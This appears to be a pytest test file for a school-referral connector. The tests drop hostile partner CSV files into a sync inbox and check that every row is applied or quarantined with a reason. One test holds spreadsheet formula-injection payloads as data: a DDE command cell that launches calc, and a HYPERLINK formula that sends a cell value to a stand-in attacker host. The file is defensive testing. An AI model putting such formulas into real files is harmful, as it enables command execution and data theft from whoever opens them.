"""Every hostile partner file of TARGETS.md, dropped in a partner's inbox and synced end to end:
each row ends applied (PowerSchool changed), recognised as a duplicate or stale update, or
quarantined with its exact reason; nothing is dropped, and the run never dies.

All cases go into one inbox and one sync (each case uses its own referrals), after a first sync
sent the referrals: reliability_kit/inbox_cases.py lists the cases and their expected outcomes.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import sqlite3
import time
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from reliability_kit import figures
from reliability_kit.inbox_cases import Ids, InboxCase, build_cases
from reliability_kit.world import World, make_world

from connector.feeds.safety import is_neutralised
from ssp.demo_scenario import revoke_one_consent

Ledger = dict[str, dict[int, tuple[str, str]]]  # file name -> row -> (outcome, reason)


@dataclass
class Synced:
    world: World
    cases: dict[str, InboxCase]
    ledger: Ledger
    quarantine: dict[
        str, dict[int, tuple[str, dict[str, str]]]
    ]  # file -> source_row -> (reason, row)
    done: dict[str, str]  # file name -> state
    summary: dict[str, Any]


def _ids(world: World) -> Ids:
    assert world.side is not None
    numbers = {s["DCID"]: str(s["STUDENT_NUMBER"]) for s in world.sandbox.students()}
    used = set(world.side.student_of.values()) | {
        r["STUDENTSDCID"] for r in world.sandbox.rows("U_SSP_CONSENTS")
    }
    stranger = next(n for d, n in sorted(numbers.items()) if d not in used)
    return Ids(
        cgc=iter(world.side.sent["cgc"][1:]),
        bhcare_referral=world.side.sent["bhcare"][0],
        unsent="demo-held-awaiting_consent",
        revoked=world.side.sent["cgc"][0],
        student_of=lambda uid: numbers[world.side.student_of[uid]],
        stranger=stranger,
    )  # type: ignore[union-attr]


def _drop(world: World, cases: list[InboxCase]) -> None:
    """Write every case's files into cgc's inbox, oldest first in case order."""
    inbox, stamp = world.inbox("cgc"), time.time() - 10_000
    for case in cases:
        for name, content in case.files.items():
            path = inbox / name
            path.write_bytes(content)
            os.utime(path, (stamp, stamp))
            stamp += 1


def _read_state(world: World) -> tuple[Ledger, dict[str, str], dict[str, str]]:
    with closing(sqlite3.connect(world.state_dir / "state.sqlite3")) as db:
        files = {
            sha: (name, state)
            for sha, name, state in db.execute(
                "SELECT sha256, file_name, state FROM inbound_files WHERE partner_id = 'cgc'"
            )
        }
        ledger: Ledger = {name: {} for name, _ in files.values()}
        for batch, row, outcome, detail in db.execute(
            "SELECT batch, row_number, outcome, detail FROM inbound_rows WHERE partner_id = 'cgc'"
        ):
            ledger[files[batch][0]][row] = (outcome, detail)
    return (
        ledger,
        {name: state for name, state in files.values()},
        {sha[:8]: name for sha, (name, _) in files.items()},
    )


def _quarantine(
    world: World, names: dict[str, str]
) -> dict[str, dict[int, tuple[str, dict[str, str]]]]:
    found: dict[str, dict[int, tuple[str, dict[str, str]]]] = {}
    for path in (world.state_dir / "partners" / "cgc" / "quarantine").glob("*/*.csv"):
        name = names[path.name[:8]]
        rows = csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
        for row in rows:
            found.setdefault(name, {})[int(row["source_row"])] = (row["reason"], row)
    return found


@pytest.fixture(scope="module")
def synced(plugin_zips: list[Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Synced]:
    world = make_world(tmp_path_factory.mktemp("hostile"), plugin_zips, students=260, referrals=120)
    try:
        assert world.sync()["status"] == "ok"
        revoke_one_consent(world.sandbox, world.side, world.today)  # the first cgc referral's
        cases = build_cases(_ids(world), world.today)
        _drop(world, cases)
        summary = world.sync()
        ledger, done, names = _read_state(world)
        yield Synced(
            world, {c.name: c for c in cases}, ledger, _quarantine(world, names), done, summary
        )
    finally:
        world.sandbox.stop()


CASES = [
    c.name
    for c in build_cases(
        Ids(iter(str(i) for i in range(999)), "b", "u", "r", lambda u: "1", "s"), dt.date.today()
    )
]


def test_the_run_with_every_hostile_file_finishes_ok(synced: Synced) -> None:
    assert synced.summary["status"] == "ok", synced.summary
    counted = synced.summary["partners"]["cgc"]
    rows = [r for case in synced.cases.values() for f in case.expected.values() for r in f]
    assert counted["quarantined"] == sum(1 for r in rows if r[1] == "quarantined")
    assert counted["status_updates_applied"] + counted["visits_created"] == sum(
        1 for r in rows if r[1] == "applied"
    )


@pytest.mark.parametrize("name", CASES)
def test_each_row_of_a_hostile_file_is_applied_or_quarantined_with_its_reason(
    synced: Synced, name: str
) -> None:
    case = synced.cases[name]
    for file, expected in case.expected.items():
        assert synced.done.get(file) == "done", f"{file} not processed"
        assert not (synced.world.inbox("cgc") / file).exists(), f"{file} left in the inbox"
        got = {
            row: (outcome, reason if outcome == "quarantined" else "")
            for row, (outcome, reason) in synced.ledger[file].items()
        }
        assert got == {row: (outcome, reason) for row, outcome, reason in expected}
        quarantined = {row: reason for row, outcome, reason in expected if outcome == "quarantined"}
        assert {r: q[0] for r, q in synced.quarantine.get(file, {}).items()} == quarantined
        figures.add("hostile rows tried", len(expected))
    for file in case.left:
        assert (synced.world.inbox("cgc") / file).exists() and file not in synced.done
    status = {r["SSP_UID"]: r["STATUS"] for r in synced.world.sandbox.rows("U_SSP_REFERRALS")}
    assert {uid: status[uid] for uid in case.final_status} == case.final_status
    figures.add("hostile input cases tried")


def test_formula_text_is_stored_as_data_and_neutralised_in_the_quarantine(synced: Synced) -> None:
    refused = synced.quarantine["status_updates_formula.csv"][3][1]
    assert refused["status_reason"] == "'=cmd|' /C calc'!A0"
    cells = [
        v for rows in synced.quarantine.values() for _, row in rows.values() for v in row.values()
    ]
    assert len(cells) > 100 and all(is_neutralised(v) for v in cells)
    reasons = {r["STATUS_REASON"] for r in synced.world.sandbox.rows("U_SSP_REFERRALS")}
    assert (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")' in reasons
    )  # PowerSchool is no spreadsheet


def test_a_rerun_processes_no_hostile_file_twice(synced: Synced) -> None:
    again = synced.world.sync()
    cgc = again["partners"]["cgc"]
    assert (
        again["status"] == "ok" and cgc["quarantined"] == 0 and cgc["status_updates_applied"] == 0
    )
    assert _read_state(synced.world)[0] == synced.ledger
